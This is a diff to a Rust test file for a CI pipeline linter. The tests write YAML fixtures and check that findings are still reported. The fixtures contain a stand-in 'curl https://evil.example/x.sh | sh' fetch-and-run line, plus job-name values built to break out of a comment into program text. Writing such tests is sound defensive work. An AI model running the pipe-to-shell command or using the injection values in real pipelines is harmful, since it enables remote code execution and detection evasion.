@@ -194,19 +194,64 @@ fn other_commands_refuse_yaml() {
     assert!(String::from_utf8_lossy(&o.stderr).contains("plumb import"));
 }
 
-/// The characters the import frames values with, written into a YAML file, do not
-/// move or hide findings: such a file is checked without precise positions.
+/// The characters the import frames values with, written into a YAML file, neither
+/// move nor hide findings: such a file is checked without precise positions, and a job
+/// between two of them is still checked.
 #[test]
 fn frame_characters_in_the_yaml_do_not_hide_findings() {
     let dir = scratch("yaml-markers");
+    let pinned =
+        "alpine:3.19@sha256:0000000000000000000000000000000000000000000000000000000000000000";
     std::fs::write(
         dir.join("x.yml"),
-        "a:\n  image: node:latest\n  script:\n    - \"echo \u{E002}\u{E000}0:0:0\u{E001}\"\n",
+        format!(
+            "a:\n  image: {pinned}\n  variables: {{ NOTE: \"\u{E000}\" }}\n  script: [echo a]\n\
+             evil:\n  image: node:latest\n  script:\n    - curl https://evil.example/x.sh | sh\n\
+             z:\n  image: {pinned}\n  variables: {{ NOTE: \"\u{E001}0:0:0\u{E002}\" }}\n  script: [echo z]\n"
+        ),
     )
     .expect("write");
     let (diags, code) = json(&["check", "--format", "json", "x.yml"], &dir);
     assert_eq!(code, 1);
-    assert!(diags.iter().any(|d| d["code"] == "PL3002"), "{diags:?}");
+    let codes: BTreeSet<&str> = diags.iter().filter_map(|d| d["code"].as_str()).collect();
+    assert!(
+        codes.contains("PL3002") && codes.contains("PL6002"),
+        "{diags:?}"
+    );
+}
+
+/// YAML text the import writes into a comment of the program (a note quoting a job
+/// name) cannot end the comment and become program text: a line break in a
+/// cross-project `needs:` job name does not hide the job after it.
+#[test]
+fn line_breaks_in_quoted_yaml_do_not_become_program_text() {
+    let dir = scratch("yaml-comment-injection");
+    let pinned =
+        "alpine:3.19@sha256:0000000000000000000000000000000000000000000000000000000000000000";
+    let needs = |name: &str| {
+        format!("  needs:\n    - project: group/other\n      ref: main\n      job: \"{name}\"\n")
+    };
+    std::fs::write(
+        dir.join("x.yml"),
+        format!(
+            "a:\n  image: {pinned}\n  script: [echo a]\n{}\
+             evil:\n  image: node:latest\n  script:\n    - curl https://evil.example/x.sh | sh\n\
+             z:\n  image: {pinned}\n  script: [echo z]\n{}",
+            needs(r#"build\njob zzz { image = \"x\", run = [\"\"\""#),
+            needs(r#"build\n\"\"\"] }\n#"#),
+        ),
+    )
+    .expect("write");
+    let (diags, code) = json(&["check", "--format", "json", "x.yml"], &dir);
+    assert_eq!(code, 1);
+    assert_eq!(
+        places(&diags),
+        ["x.yml:9 PL3002", "x.yml:11 PL6002"]
+            .into_iter()
+            .map(String::from)
+            .collect(),
+        "{diags:?}"
+    );
 }
 
 /// Every file of the corpus is read (never a usage error or a crash), and every
